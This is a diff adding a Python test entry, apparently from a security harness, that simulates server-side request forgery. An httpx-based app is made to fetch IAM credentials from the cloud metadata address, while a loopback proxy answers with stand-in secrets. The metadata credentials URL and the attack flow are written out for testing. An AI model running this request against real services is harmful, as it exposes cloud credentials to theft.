@@ -1,0 +1,62 @@
+"""G11: a visitor has the app fetch the cloud's metadata address, through the proxy that all its requests take.
+
+So the address itself is never dialled here: the proxy on loopback answers for it.
+"""
+
+from backwatch.attack.authority import Authority
+from backwatch.attack.entries import Entry, run
+from backwatch.attack.servers import HostileServer
+from backwatch.attack.speakers.http import CREDENTIALS, Request, Web, answered
+
+METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop"
+
+
+class _Proxy(Web):
+    """Answers for whoever is asked for."""
+
+    def answer(self, request: Request) -> bytes:
+        return answered(CREDENTIALS) if b"169.254.169.254" in request.path else super().answer(request)
+
+
+class MetadataThroughProxy(Entry):
+    """On httpx, in an app that fetches pictures from wherever a visitor says that they are."""
+
+    code = "G11"
+    attack = "has the app fetch the credentials of its machine from the cloud's metadata address"
+    reference = "https://cwe.mitre.org/data/definitions/918.html; ATT&CK T1552.005"
+    driver = "httpx"
+    rule = "metadata-address"
+
+    @classmethod
+    def service(cls, authority: Authority) -> HostileServer:
+        """The proxy, honest all along."""
+        return _Proxy(authority)
+
+    def fetch(self, url: str) -> object:
+        """What lies there."""
+        import ssl
+
+        import httpx
+
+        context = ssl.create_default_context(cafile=self.place.ca_file)
+        proxy = httpx.Proxy(f"https://localhost:{self.place.port}", ssl_context=context)
+        with httpx.Client(proxy=proxy, timeout=5) as client:
+            return client.get(url).json()
+
+    def work(self) -> None:
+        """A visitor's picture."""
+        self.fetch("http://pictures.shop.example/7")
+
+    def meet(self) -> object:
+        """The attacker's."""
+        return self.fetch(METADATA)
+
+    @classmethod
+    def succeeded(cls, service: HostileServer, got: object) -> bool:
+        """The app has them."""
+        del service
+        return isinstance(got, dict) and "SecretAccessKey" in got
+
+
+if __name__ == "__main__":
+    run(MetadataThroughProxy)
